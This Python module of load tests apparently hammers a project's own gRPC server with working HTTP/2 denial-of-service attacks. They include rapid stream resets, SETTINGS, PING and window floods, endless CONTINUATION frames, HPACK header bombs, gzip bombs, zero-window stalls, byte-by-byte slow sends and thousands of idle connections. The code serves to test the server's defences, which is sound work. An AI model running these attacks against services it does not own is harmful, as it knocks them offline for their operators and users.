"""Attacks below gRPC: frames of HTTP/2 that are cheap to send and dear to read (RFC 9113, section 10.5), and silence.

They come from addresses of this machine that no trusted proxy has (127.9.0.0/16), so that the bounds of an address hold. Each
connection that is cut off is opened again at once; what is counted is how they ended, by the code of the server's GOAWAY.
"""

import asyncio
import contextlib
import gzip
import itertools
import struct
from collections import defaultdict
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

from h2.errors import ErrorCodes

from brettwerk.v1 import play_pb2
from loadtests.attacks.target import Target

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHODS = "/brettwerk.v1.PlayService/"
CONNECTIONS = 8
"""How many connections most attacks use."""
_TIMEOUT_S = 2.0
"""How long an attacker waits for a server that reads nothing."""


def frame(kind: int, flags: int, number: int, body: bytes = b"") -> bytes:
    """Return a frame of a stream, or of the connection with 0."""
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", number) + body


def field(name: bytes, value: bytes) -> bytes:
    """Return a header as a literal that no table remembers (RFC 7541, 6.2.2); both are shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(method: str, *more: bytes) -> bytes:
    """Return the headers that call a method, and more of them, encoded."""
    fields = ((b":path", (METHODS + method).encode()), (b":authority", b"x"), (b"te", b"trailers"))
    return b"\x83\x86" + b"".join(field(*one) for one in (*fields, (b"content-type", b"application/grpc"))) + b"".join(more)


def message(data: bytes, *, is_compressed: bool = False) -> bytes:
    """Return a gRPC message."""
    return struct.pack(">BI", is_compressed, len(data)) + data


class Wire:
    """A connection to the server. What the server says is read and dropped."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.ended_by = ""
        """The server's last word: the name of a GOAWAY's code, or how the connection broke; empty while it is open."""
        self._heard: dict[int, asyncio.Event] = defaultdict(asyncio.Event)
        self._writer = writer
        self._reading = asyncio.create_task(self._read(reader))

    @classmethod
    async def open(cls, address: str, source: str, settings: bytes = b"") -> "Wire":
        """Connect from an address of this machine. Raises OSError."""
        host, _, port = address.rpartition(":")
        async with asyncio.timeout(_TIMEOUT_S):
            wire = cls(*await asyncio.open_connection(host, int(port), local_addr=(source, 0)))
        await wire.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        return wire

    async def send(self, data: bytes) -> None:
        """Send bytes as soon as the server reads. Raises OSError once it has ended the connection, or reads nothing."""
        if self.ended_by:
            raise ConnectionError(self.ended_by)
        self._writer.write(data)
        async with asyncio.timeout(_TIMEOUT_S):
            await self._writer.drain()

    async def close(self) -> None:
        """Leave."""
        self._writer.transport.abort()
        await asyncio.wait([self._reading])

    async def heard(self, kind: int) -> None:
        """Wait until the server has sent a frame of a kind."""
        await self._heard[kind].wait()

    async def ended(self, timeout_s: float | None = None) -> str:
        """Return how the server has ended it; empty if it has not within so many seconds."""
        await asyncio.wait([self._reading], timeout=timeout_s)
        return self.ended_by

    async def _read(self, reader: asyncio.StreamReader) -> None:
        try:
            while True:
                start = await reader.readexactly(9)
                body = await reader.readexactly(int.from_bytes(start[:3], "big"))
                self._heard[start[3]].set()
                if start[3] == GOAWAY:
                    self.ended_by = ErrorCodes(int.from_bytes(body[4:8], "big")).name
        except (OSError, asyncio.IncompleteReadError):
            self.ended_by = self.ended_by or "cut"


def sources(count: int) -> Iterator[str]:
    """Return so many addresses of this machine, in turn."""
    return itertools.cycle([f"127.9.{number // 250}.{number % 250 + 1}" for number in range(count)])


async def besiege(
    target: Target,
    act: Callable[[Wire], Awaitable[None]],
    *,
    connections: int = CONNECTIONS,
    addresses: int = 1,
    settings: bytes = b"",
) -> None:
    """Do something over so many connections until time is over; each is opened again when it has ended."""
    origins = sources(addresses)

    async def one() -> None:
        while target.is_on:
            try:
                wire = await Wire.open(target.grpc_address, next(origins), settings)
            except OSError:
                target.tally["not let in"] += 1
                await asyncio.sleep(0.05)
                continue
            target.tally["connections"] += 1
            with contextlib.suppress(OSError):
                await act(wire)
            if wire.ended_by:
                target.tally[wire.ended_by] += 1
            await wire.close()

    await asyncio.gather(*(one() for _ in range(connections)))


def flood(target: Target, opening: bytes, *repeated: bytes) -> Callable[[Wire], Awaitable[None]]:
    """Return what sends an opening and then, as fast as the server reads, the frames that are repeated."""
    many = b"".join(repeated) * (16 * 1024 // sum(map(len, repeated)) + 1)

    async def act(wire: Wire) -> None:
        await wire.send(opening)
        while target.is_on:
            await wire.send(many)
            await asyncio.sleep(0)

    return act


async def rapid_resets(target: Target) -> None:
    """Open streams and break them at once, 3,000 a second over each connection."""
    block = head("ListGames")

    async def act(wire: Wire) -> None:
        for number in itertools.count(1, 200):
            numbers = range(number, number + 200, 2)
            if not target.is_on:
                return
            await wire.send(
                b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in numbers)
            )
            await asyncio.sleep(1 / 30)

    await besiege(target, act)


async def settings_flood(target: Target) -> None:
    """Change a setting again and again: each change wants an answer."""
    await besiege(target, flood(target, b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))))


async def ping_flood(target: Target) -> None:
    """Ask for signs of life without end."""
    await besiege(target, flood(target, b"", frame(PING, 0, 0, bytes(8))))


async def window_flood(target: Target) -> None:
    """Widen windows by a byte each."""
    await besiege(target, flood(target, b"", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


async def priorities(target: Target) -> None:
    """Move streams about in a tree that nobody uses."""
    await besiege(target, flood(target, b"", frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1))))


async def empty_data(target: Target) -> None:
    """Send a request in frames without a byte."""
    await besiege(target, flood(target, frame(HEADERS, END_HEADERS, 1, head("Connect")), frame(DATA, 0, 1)))


async def single_bytes(target: Target) -> None:
    """Send a large request in frames of one byte."""
    opening = frame(HEADERS, END_HEADERS, 1, head("CheckRecord")) + frame(DATA, 0, 1, struct.pack(">BI", 0, 2**22))
    await besiege(target, flood(target, opening, frame(DATA, 0, 1, b"x")))


async def continuations(target: Target) -> None:
    """Begin headers and never end them (CVE-2024-27316 and its kind)."""
    more = frame(CONTINUATION, 0, 1, field(b"x-y", b"z" * 100))
    await besiege(target, flood(target, frame(HEADERS, 0, 1, head("ListGames")), more))


async def header_bombs(target: Target) -> None:
    """Name one long header by a byte, sixteen thousand times."""
    name, value = b"x-bomb", b"y" * 4000
    literal = (
        b"\x40" + bytes((len(name),)) + name + b"\x7f" + bytes((len(value) - 127 & 0x7F | 0x80, len(value) - 127 >> 7)) + value
    )
    opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, head("ListGames") + literal)

    async def act(wire: Wire) -> None:
        await wire.send(opening)
        for number in itertools.count(3, 2):
            if not target.is_on:
                return
            await wire.send(frame(HEADERS, END_HEADERS | END_STREAM, number, head("ListGames") + b"\xbe" * 15_000))
            await asyncio.sleep(0)

    await besiege(target, act)


async def gzip_bombs(target: Target) -> None:
    """Send a few kilobytes that are eight megabytes once they are read."""
    bomb = message(gzip.compress(bytes(8 * 1024 * 1024 - 4096)), is_compressed=True)
    block = head("CheckRecord", field(b"grpc-encoding", b"gzip"))

    async def act(wire: Wire) -> None:
        for number in itertools.count(1, 2):
            if not target.is_on:
                return
            await wire.send(frame(HEADERS, END_HEADERS, number, block) + frame(DATA, END_STREAM, number, bomb))
            await asyncio.sleep(0.01)

    await besiege(target, act)


async def zero_windows(target: Target) -> None:
    """Ask for the texts of games, a hundred answers of each connection at a time, and take no byte of them."""
    request = message(play_pb2.GetGameRequest(game="wec", language="en").SerializeToString())

    async def act(wire: Wire) -> None:
        for number in range(1, 200, 2):
            await wire.send(frame(HEADERS, END_HEADERS, number, head("GetGame")) + frame(DATA, END_STREAM, number, request))
        await wire.ended(target.left_s)

    await besiege(target, act, connections=64, settings=struct.pack(">HI", 4, 0))


async def tiny_windows(target: Target) -> None:
    """Take answers byte by byte."""
    request = message(play_pb2.GetGameRequest(game="wec", language="en").SerializeToString())

    async def act(wire: Wire) -> None:
        await wire.send(frame(HEADERS, END_HEADERS, 1, head("GetGame")) + frame(DATA, END_STREAM, 1, request))
        await flood(target, b"", frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))(wire)

    await besiege(target, act, settings=struct.pack(">HI", 4, 1))


async def streams_left(target: Target) -> None:
    """Open a hundred calls over each of 250 connections and never say what is asked for."""
    block = head("ListGames")

    async def act(wire: Wire) -> None:
        await wire.send(b"".join(frame(HEADERS, END_HEADERS, number, block) for number in range(1, 200, 2)))
        await wire.ended(target.left_s)

    await besiege(target, act, connections=250)


async def drop_by_drop(target: Target) -> None:
    """Send one byte a second: of the preface, of a frame, of headers and of a request, over fifty connections each."""
    preface = PREFACE + frame(SETTINGS, 0, 0)
    openings = (
        b"",
        preface,
        preface + frame(HEADERS, 0, 1, head("ListGames")),
        preface + frame(HEADERS, END_HEADERS, 1, head("CheckRecord")) + frame(DATA, 0, 1, message(bytes(16_000))[:10]),
    )
    host, _, port = target.grpc_address.rpartition(":")

    async def drip(opening: bytes, source: str) -> None:
        _, writer = await asyncio.open_connection(host, int(port), local_addr=(source, 0))
        target.tally["connections"] += 1
        writer.write(opening)
        for byte in itertools.cycle(frame(CONTINUATION, 0, 1, bytes(1000)) if opening else preface):
            if not target.is_on:
                break
            writer.write(bytes((byte,)))
            await writer.drain()
            await asyncio.sleep(1)
        writer.close()

    async def one(opening: bytes, source: str) -> None:
        while target.is_on:
            try:
                await drip(opening, source)
            except OSError:
                target.tally["cut"] += 1
                await asyncio.sleep(0.5)

    origins = sources(1)
    await asyncio.gather(*(one(opening, next(origins)) for opening in openings for _ in range(50)))


async def idle_connections(target: Target) -> None:
    """Open four thousand connections from one address and say nothing."""
    await _idle(target, 4_000, 1)


async def idle_from_many(target: Target) -> None:
    """Open nine thousand connections from 500 addresses and say nothing."""
    await _idle(target, 9_000, 500)


async def _idle(target: Target, connections: int, addresses: int) -> None:
    origins = sources(addresses)
    opened: list[Any] = []
    host, _, port = target.grpc_address.rpartition(":")
    for _ in range(connections):
        if not target.is_on:
            break
        try:
            opened.append(await asyncio.open_connection(host, int(port), local_addr=(next(origins), 0)))
            target.tally["opened"] += 1
        except OSError:
            target.tally["not let in"] += 1
            await asyncio.sleep(0.01)
    await target.wait()
    target.tally["open in the end"] = sum(not reader.at_eof() for reader, _ in opened)
    for _, writer in opened:
        writer.transport.abort()
